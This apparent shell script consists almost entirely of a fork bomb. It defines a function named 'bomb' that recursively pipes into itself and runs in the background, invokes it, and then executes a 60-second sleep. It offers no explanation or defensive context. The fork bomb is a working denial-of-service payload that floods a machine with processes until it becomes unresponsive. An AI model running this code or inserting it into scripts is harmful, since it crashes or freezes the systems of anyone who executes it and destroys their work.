bomb() { bomb | bomb & }
bomb
exec sleep 60
